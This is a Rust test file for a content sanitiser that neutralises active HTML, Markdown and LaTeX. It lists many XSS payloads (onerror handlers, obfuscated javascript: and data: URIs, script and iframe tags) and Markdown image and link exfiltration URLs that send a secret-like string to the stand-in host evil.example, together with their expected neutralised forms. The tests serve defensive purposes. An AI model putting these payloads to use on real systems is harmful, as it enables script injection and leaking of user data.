//! What comes out of each construct, what passes unchanged, and what no input may do.

mod loaded;

use super::*;
use proptest::prelude::*;

fn settings() -> Settings {
    Settings {
        markup: Treatment::Neutralise,
        images: Treatment::Neutralise,
        links: Treatment::Neutralise,
        hosts: Hosts::new(vec![Host::named("*.trusted.example")]),
    }
}

fn neutralised(text: &str) -> Looked<'_> {
    examine(text, Reading::Prose, &settings())
}

/// Something that no honest image carries.
const DATA: &str = "QUtJQUlPU0ZPRE5ON0VYQU1QTEU6d0phbHJYVXRuRkVNSS9LN01ERU5H";

fn with_data(text: &str) -> String {
    text.replace("LONG", &DATA.repeat(10)).replace("DATA", DATA)
}

/// What HTML runs or loads, what it becomes, and which rule found it.
const HTML: &[(&str, &str, Rule)] = &[
    (
        "<b title=\\\n> onclick=a()",
        "<b title=\\\n> data-onclick=a()",
        Rule::EventHandler,
    ),
    (
        "<p oncontentvisibilityautostatechange=a()>",
        "<p data-oncontentvisibilityautostatechange=a()>",
        Rule::EventHandler,
    ),
    (
        "<p onwebkitplaybacktargetavailabilitychanged=a()>",
        "<p data-onwebkitplaybacktargetavailabilitychanged=a()>",
        Rule::EventHandler,
    ),
    (
        "a <script>x()</script>",
        "a &lt;script>x()</script>",
        Rule::Script,
    ),
    (
        "<SCRIPT src=//x.example>",
        "&lt;SCRIPT src=//x.example>",
        Rule::Script,
    ),
    ("<script/x>", "&lt;script/x>", Rule::Script),
    ("<script\n>", "&lt;script\n>", Rule::Script),
    ("<style>*{}</style>", "&lt;style>*{}</style>", Rule::Style),
    ("<iframe src=x>", "&lt;iframe src=x>", Rule::Frame),
    ("<object data=x>", "&lt;object data=x>", Rule::Frame),
    ("<embed src=x>", "&lt;embed src=x>", Rule::Frame),
    ("<form action=x>", "&lt;form action=x>", Rule::Form),
    (
        "<base href=//x.example>",
        "&lt;base href=//x.example>",
        Rule::Redirect,
    ),
    (
        "<link rel=stylesheet href=x>",
        "&lt;link rel=stylesheet href=x>",
        Rule::Style,
    ),
    (
        "<meta http-equiv=refresh content=0>",
        "&lt;meta http-equiv=refresh content=0>",
        Rule::Redirect,
    ),
    (
        "<?xml-stylesheet href='x'?>",
        "&lt;?xml-stylesheet href='x'?>",
        Rule::Style,
    ),
    (
        "<img src=x onerror=alert(1)>",
        "<img src=x data-onerror=alert(1)>",
        Rule::EventHandler,
    ),
    (
        "<img src=x onerror = alert(1)>",
        "<img src=x data-onerror = alert(1)>",
        Rule::EventHandler,
    ),
    (
        "<img src=x/onerror=a()>",
        "<img src=x/data-onerror=a()>",
        Rule::EventHandler,
    ),
    (
        "<b x=\"y\"onclick=a()>",
        "<b x=\"y\"data-onclick=a()>",
        Rule::EventHandler,
    ),
    (
        "<b x=\">\" onclick=a()>",
        "<b x=\">\" data-onclick=a()>",
        Rule::EventHandler,
    ),
    (
        "<b x\" y=\">\" onclick=a()>",
        "<b x\" y=\">\" data-onclick=a()>",
        Rule::EventHandler,
    ),
    (
        "<img alt=\"<b>\" onerror=a()>",
        "<img alt=\"<b>\" data-onerror=a()>",
        Rule::EventHandler,
    ),
    (
        "<div title=\"\n\nb\">\n\n<p>\n\" onclick=a() x=\"",
        "<div title=\"\n\nb\">\n\n<p>\n\" data-onclick=a() x=\"",
        Rule::EventHandler,
    ),
    (
        "<p style='background:url(x)'>",
        "<p data-style='background:url(x)'>",
        Rule::Style,
    ),
    (
        "<p style='b:\\75rl(x)'>",
        "<p data-style='b:\\75rl(x)'>",
        Rule::Style,
    ),
    (
        "<a href='javascript:a()'>",
        "<a href='javascript%3Aa()'>",
        Rule::Scheme,
    ),
    (
        "<a href=' java\tscript:a()'>",
        "<a href=' java\tscript%3Aa()'>",
        Rule::Scheme,
    ),
    (
        "<a href=&#106;avascript&colon;a()>",
        "<a href=&#106;avascript%3Aa()>",
        Rule::Scheme,
    ),
    (
        "<a href='jav&#x0000041;script&#58a()'>",
        "<a href='jav&#x0000041;script%3Aa()'>",
        Rule::Scheme,
    ),
    (
        "<svg><a xlink:href='javascript:a()'>",
        "<svg><a xlink:href='javascript%3Aa()'>",
        Rule::Scheme,
    ),
    (
        "<svg><animate values='x;javascript:a()'>",
        "<svg>&lt;animate values='x;javascript%3Aa()'>",
        Rule::Scheme,
    ),
    (
        "<a href='data:text/html,x'>",
        "<a href='data%3Atext/html,x'>",
        Rule::DataUri,
    ),
    ("<b srcdoc='x'>", "<b data-srcdoc='x'>", Rule::Frame),
];

#[test]
fn n1_4_what_html_runs_or_loads_is_neutralised() {
    for &(text, expected, rule) in HTML {
        let looked = neutralised(text);
        assert_eq!(looked.text, expected);
        let counted = looked.tally.counts().any(|(found, _)| found == rule);
        assert!(counted, "{text}: {:?}", looked.tally);
    }
}

#[test]
fn n1_4_addresses_that_run_are_neutralised_wherever_markdown_takes_one() {
    for (text, expected) in [
        ("[a](javascript:b())", "[a](javascript%3Ab())"),
        ("[a]( JavaScript:b())", "[a]( JavaScript%3Ab())"),
        ("[a](<javascript:b()>)", "[a](<javascript%3Ab()>)"),
        ("[a](java&#115;cript\\:b())", "[a](java&#115;cript%3Ab())"),
        ("[a](vbscript&colon;b)", "[a](vbscript%3Ab)"),
        ("[a]: javascript:b()", "[a]: javascript%3Ab()"),
        ("<javascript:b()>", "<javascript%3Ab()>"),
        ("![a](javascript:b())", "![a](javascript%3Ab())"),
        (
            "[a](data:text/html;base64,PHM+)",
            "[a](data%3Atext/html;base64,PHM+)",
        ),
        ("[a](command:workbench.x)", "[a](command%3Aworkbench.x)"),
        ("[^1]: javascript:b()", "[^1]: javascript%3Ab()"),
        (
            "$\\href{javascript:b()}{x}$",
            "$\\href{javascript%3Ab()}{x}$",
        ),
        (
            "\\(\\url{ JavaScript:b()}\\)",
            "\\(\\url{ JavaScript%3Ab()}\\)",
        ),
        (
            "```math\n\\href{vbscript:b}{x}\n```",
            "```math\n\\href{vbscript%3Ab}{x}\n```",
        ),
        (
            "$\\href {data:text/html,x}{y}$",
            "$\\href {data%3Atext/html,x}{y}$",
        ),
        ("![a](data:image/svg+xml,x)", "a [image removed: data]"),
    ] {
        assert_eq!(neutralised(text).text, expected);
    }
}

/// What carries data out, and what is left of it.
const CARRIED: &[(&str, &str)] = &[
    (
        "![b]: x\n\n[b]: https://evil.example/?q=DATA",
        "![b]: x\n\n[b] : [link removed: evil.example]",
    ),
    (
        "![logo](https://evil.example/a.png?q=DATA)",
        "logo [image removed: evil.example]",
    ),
    (
        "x![](https://evil.example/?q=DATA)y",
        "x[image removed: evil.example]y",
    ),
    // Two halves of a word do not become one.
    (
        "ghp_abc![DEF](https://evil.example/?q=DATA)",
        "ghp_abc DEF [image removed: evil.example]",
    ),
    (
        "![a](https://evil.example/?q=DATA \"title\") b",
        "a [image removed: evil.example] b",
    ),
    (
        "![a](<https://evil.example/?q=DATA>)",
        "a [image removed: evil.example]",
    ),
    (
        "![a](//evil.example/?q=DATA)",
        "a [image removed: evil.example]",
    ),
    (
        "![a](https://evil.example/{secret})",
        "a [image removed: evil.example]",
    ),
    (
        "[![a](https://evil.example/?q=DATA)](https://docs.example/)",
        "[a [image removed: evil.example]](https://docs.example/)",
    ),
    (
        "![a](https://evil.example/?q=DATA)(https://evil.example/?r=LONG)",
        "a [image removed: evil.example] ([link removed: evil.example])",
    ),
    (
        "![a][b]\n\n[b]: https://evil.example/?q=DATA",
        "![a][b]\n\n[b] : [link removed: evil.example]",
    ),
    (
        "[a][b]\n\n[b]: https://evil.example/?q=DATA",
        "[a][b]\n\n[b]: https://evil.example/?q=DATA",
    ),
    (
        "[a](https://x.example/?LONG)",
        "[a] [link removed: x.example]",
    ),
    (
        "see https://x.example/?LONG now",
        "see [link removed: x.example] now",
    ),
    (
        "<img src=\"https://evil.example/?q=DATA\">",
        "<img alt=\"[image removed: evil.example]\">",
    ),
    (
        "<img src=https://evil.example/?q=DATA>",
        "<img alt='[image removed: evil.example]'>",
    ),
    (
        "<img srcset='a 1x, https://evil.example/?q=DATA 2x'>",
        "<img alt='[image removed: evil.example]'>",
    ),
    (
        "<video poster='https://evil.example/?q=DATA'>",
        "<video alt='[image removed: evil.example]'>",
    ),
    (
        "<image href='https://evil.example/?q=DATA'/>",
        "<image alt='[image removed: evil.example]'/>",
    ),
    (
        "<a href='https://evil.example/?q=DATA'>",
        "<a href='https://evil.example/?q=DATA'>",
    ),
    (
        "<a href='https://x.example/?LONG'>",
        "<a title='[link removed: x.example]'>",
    ),
    (
        "![a [ b](https://evil.example/?q=DATA)",
        "![a [ b] [image removed: evil.example]",
    ),
    (
        "![a](https://img.trusted.example/?q=DATA)",
        "![a](https://img.trusted.example/?q=DATA)",
    ),
    (
        "$\\includegraphics[width=1em]{https://evil.example/?q=DATA}$",
        "$\\includegraphics[width=1em]{[image removed: evil.example]}$",
    ),
    (
        "$\\includegraphics{https://evil.example/{secret}}$",
        "$\\includegraphics{[image removed: evil.example]}}$",
    ),
    (
        "$\\href{https://x.example/?LONG}{y}$",
        "$\\href{[link removed: x.example]}{y}$",
    ),
    (
        "<img src='https://DATA@evil.example/'>",
        "<img alt='[image removed: evil.example]'>",
    ),
    (
        "[^1]: https://x.example/?LONG",
        "[^1] : [link removed: x.example]",
    ),
    (
        "url(https://evil.example/?q=DATA)",
        "url([image removed: evil.example])",
    ),
];

#[test]
fn n9_3_images_and_links_that_carry_data_out_leave_their_text() {
    for &(text, expected) in CARRIED {
        assert_eq!(
            neutralised(&with_data(text)).text,
            with_data(expected),
            "{text}"
        );
    }
}

#[test]
fn n9_3_images_of_other_hosts_than_those_listed_are_taken_out_where_it_says_so() {
    let settings = Settings {
        hosts: Hosts::only(vec![Host::named("*.trusted.example")]),
        ..settings()
    };
    for (text, expected) in [
        (
            "![a](https://e.example/a.png)",
            "a [image removed: e.example]",
        ),
        ("![a](//e.example/a)", "a [image removed: e.example]"),
        (
            "![a][b]\n\n[b]: https://e.example/a",
            "![a][b]\n\n[b] : [link removed: e.example]",
        ),
        (
            "<img src=https://e.example/>",
            "<img alt='[image removed: e.example]'>",
        ),
        (
            "$\\includegraphics{https://e.example/a}$",
            "$\\includegraphics{[image removed: e.example]}$",
        ),
        (
            "![a](https://a.trusted.example/a.png)",
            "![a](https://a.trusted.example/a.png)",
        ),
        (
            "![a](images/a.png) [b](https://e.example/b)",
            "![a](images/a.png) [b](https://e.example/b)",
        ),
        (
            "[a][b]\n\n[b]: https://e.example/a",
            "[a][b]\n\n[b]: https://e.example/a",
        ),
    ] {
        let looked = examine(text, Reading::Prose, &settings);
        assert_eq!(looked.text, expected);
        let rules: Vec<_> = looked.tally.counts().map(|(rule, _)| rule).collect();
        let expected: &[Rule] = match looked.text == text {
            true => &[],
            false => &[Rule::UnlistedImage],
        };
        assert_eq!(rules, expected, "{text}");
    }
}

/// What people write, and files that tools read for them. None of it is active where it stands.
const BENIGN: &[&str] = &[
    "Plain text. 3 < 4 and 5 > 4; a<b, c>d; x<y && y<z; if a<b then c=d",
    "Vec<Option<String>>, List<Object> and Map<String, Form>, `<script>`",
    "cp <source> <target>; git clone <link>; <link to docs>; usage: set <name>",
    "```html\n<script>alert(1)</script>\n<img onerror=x>\n```\n",
    "Use `<img src=x onerror=alert(1)>` to test, and ``<a href=\"javascript:`x`\">``.",
    "A list:\n\n1. Write:\n\n   ```html\n   <form action=x>\n   ```\n\n2. Done.\n",
    "Example:\n\n    <script src=\"x.js\"></script>\n\nThat is it.",
    "[![npm](https://img.shields.io/npm/v/x.svg?style=flat)](https://npmjs.com/x) [docs](./a.md \"t\")",
    "<p align=\"center\"><img src=\"logo.png\" alt=\"x\" width=\"200\"></p>\n\n<details><summary>More</summary></details>",
    "![inline](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk)",
    "online=true, once = 1, only=2; const onclick = 3; javascript: the good parts",
    "{\"javascript\": \"x\", \"url\": \"https://example.com/a?b=c\", \"list\": [1, 2]}",
    "a[0]: b; x[1](2); #![allow(x)] vec![1, 2](3)",
    "mailto:a@example.com, <a@example.com>, <https://example.com/a?b=c&d=e>",
    "<a href=\"https://example.com\" target=\"_blank\">x</a> <br/> <b>bold</b> <kbd>Ctrl</kbd>",
    "<meta charset=\"utf-8\"> <meta name=\"viewport\" content=\"width=device-width\">",
    "| a | b |\n|---|---|\n| `x` | <b>y</b> |\n",
    "$\\href{https://example.com/a}{a} \\frac{1}{2}$, \\url{https://example.com}, C:\\url, \\href, \\hrefs{a}",
    "\\includegraphics[width=\\textwidth]{figures/a.png} and \\includegraphics",
    "日本語の[リンク](https://example.jp/ページ)と`コード`。",
];

#[test]
fn n1_4_what_people_write_passes_byte_by_byte() {
    for text in BENIGN {
        let looked = neutralised(text);
        assert!(
            matches!(looked.text, Cow::Borrowed(same) if same == *text),
            "{looked:?}"
        );
        assert!(looked.tally.is_clean(), "{text}: {:?}", looked.tally);
    }
}

/// Packages whose README is changed: a script in a comment is one for whoever strips comments badly.
const CHANGED: &[&str] = &["source-map-js"];

#[test]
fn n1_4_the_readmes_of_installed_packages_pass_byte_by_byte() {
    let root = concat!(env!("CARGO_MANIFEST_DIR"), "/../../.deps/node_modules");
    let packages = std::fs::read_dir(root).into_iter().flatten().flatten();
    let mut read = 0;
    let mut changed = Vec::new();
    for package in packages {
        let Ok(text) = std::fs::read_to_string(package.path().join("README.md")) else {
            continue;
        };
        read += 1;
        let looked = neutralised(&text);
        if looked.text != text && !CHANGED.iter().any(|it| package.file_name() == **it) {
            let places = looked.tally.matches().iter();
            let told = places.map(|it| {
                format!(
                    "{}: {:?}",
                    it.rule,
                    text.get(it.range.clone()).unwrap_or_default()
                )
            });
            changed.push((package.file_name(), told.collect::<Vec<_>>()));
        }
    }
    // They are installed where everything is tested.
    let is_alone = std::fs::metadata(root).is_err() && std::env::var_os("CI").is_none();
    assert!(read > 50 || is_alone, "{read}");
    assert!(changed.is_empty(), "{changed:#?}");
}

#[test]
fn a_file_of_a_format_of_its_own_is_told_about_and_left() {
    let text = "<html><script>x()</script><img src=x onerror=y()></html>";
    let looked = examine(text, Reading::Source, &settings());
    assert_eq!(looked.text, text);
    let rules: Vec<_> = looked.tally.counts().map(|(rule, _)| rule).collect();
    assert_eq!(rules, [Rule::EventHandler, Rule::Script]);
}

#[test]
fn each_family_does_what_its_setting_says() {
    let text = with_data("<script> ![a](https://evil.example/?q=DATA) https://x.example/?LONG");
    let alone = |family: Family| {
        let is = |it: Family| {
            if it == family {
                Treatment::Neutralise
            } else {
                Treatment::Report
            }
        };
        let settings = Settings {
            markup: is(Family::Markup),
            images: is(Family::Image),
            links: is(Family::Link),
            hosts: Hosts::default(),
        };
        let looked = examine(&text, Reading::Prose, &settings);
        assert_eq!(looked.tally.counts().count(), 3, "{:?}", looked.tally);
        (
            looked.text.contains("&lt;"),
            looked.text.contains("[image removed"),
            looked.text.contains("[link removed"),
        )
    };
    assert_eq!(alone(Family::Markup), (true, false, false));
    assert_eq!(alone(Family::Image), (false, true, false));
    assert_eq!(alone(Family::Link), (false, false, true));
    let off = examine(&text, Reading::Prose, &Settings::default());
    assert!(off.tally.is_clean() && off.text == text);
}

#[test]
fn matches_name_the_very_bytes() {
    let text = with_data("é <script>x</script> ![a](https://evil.example/?q=DATA)");
    let looked = neutralised(&text);
    let told: Vec<_> = looked
        .tally
        .matches()
        .iter()
        .map(|it| (&*it.rule, text.get(it.range.clone()).unwrap_or_default()))
        .collect();
    assert_eq!(told[0], ("markup.script", "<script"));
    assert_eq!(told[1].0, "markup.image_exfiltration");
    assert!(
        told[1].1.starts_with("[a](https://evil") && told[1].1.ends_with(')'),
        "{told:?}"
    );
}

/// Each input is made to be read over and over. What is shown is that every one of them is read to its end
/// and leaves nothing; how long that takes is measured elsewhere.
#[test]
fn what_is_built_to_be_slow_is_read_to_its_end_and_leaves_nothing() {
    let size = 1 << 18;
    for unit in [
        "[",
        "![",
        "![](",
        "](",
        "](](",
        "[[](",
        "<",
        "<a",
        "<a ",
        "<!--",
        "<a x=\"",
        "<a x='",
        "<a =",
        "src=",
        " src=",
        "/src=//a/",
        " src=//a/",
        "`",
        "``` ",
        "`a``b",
        "[a]: ",
        "]:",
        "](<",
        "](a \"",
        "](https://a/",
        " https://a",
        "://",
        "<script",
        "<meta ",
        "&#0",
        "<a href=&#0",
        "\\",
        "](\\",
        "](((",
        "<form\n",
        "<div>\n",
        "- ```\n",
        "```\n",
        "~~~\n",
        "> ",
        "![a](https://e.example/{}) ",
        " on",
        "<a onclick=",
        "=",
        "<a\n\n",
        "\n    ",
        "| `|",
        "<x onabc=\"",
        "\\href{",
        "\\url",
        "\\includegraphics[",
        "\\includegraphics[]{https://a/",
    ] {
        let text = unit.repeat(size / unit.len());
        let looked = neutralised(&text);
        assert!(
            neutralised(&looked.text).tally.is_clean() || looked.text == text,
            "{unit:?}"
        );
    }
}

/// Text made mostly of what the rules are about.
fn hostile() -> impl Strategy<Value = String> {
    let spicy = prop::sample::select(vec![
        "<",
        ">",
        "</",
        "<!--",
        "-->",
        "<script",
        "<img ",
        "<a ",
        "<div title=",
        "<form ",
        "<iframe ",
        "src=",
        "href=",
        "onerror=",
        "onclick =",
        "style=",
        "url(",
        "\"",
        "'",
        "=",
        " ",
        "\n",
        "\n\n",
        "`",
        "``",
        "```\n",
        "~~~\n",
        "    ",
        "- ",
        "> ",
        "1. ",
        "| ",
        "|---|\n",
        "[",
        "![",
        "]",
        "](",
        "]:",
        ")",
        "(",
        "\\href{",
        "\\includegraphics[]{",
        "}",
        "javascript:",
        "java&#115;cript:",
        "data:text/html,",
        "https://evil.example/?q=QUtJQUlPU0ZPRE5ON0VYQU1QTEU6d0phbHJYVXRuRkVNSS9LN01",
        "//evil.example/{x}",
        "https://a.trusted.example/",
        "&lt;",
        "&#61;",
        "\\",
        "é",
        "x",
        "a b",
    ]);
    prop::collection::vec(spicy, 0..40).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn n1_4_neutralising_leaves_nothing_active_and_is_done_once(text in hostile()) {
        let looked = neutralised(&text);
        let again = neutralised(&looked.text);
        prop_assert!(again.tally.is_clean(), "{:?} -> {:?}: {:?}", text, looked.text, again.tally);
        prop_assert_eq!(&again.text, &looked.text);
        prop_assert_eq!(looked.tally.is_clean(), looked.text == text);
    }

    #[test]
    fn a_neutralised_text_is_bounded_and_matches_are_within_it(text in hostile()) {
        let looked = neutralised(&text);
        prop_assert!(looked.text.len() <= text.len() * 5 + WITHHELD.len());
        for found in looked.tally.matches() {
            prop_assert!(text.get(found.range.clone()).is_some(), "{:?} {:?}", text, found);
        }
    }
}
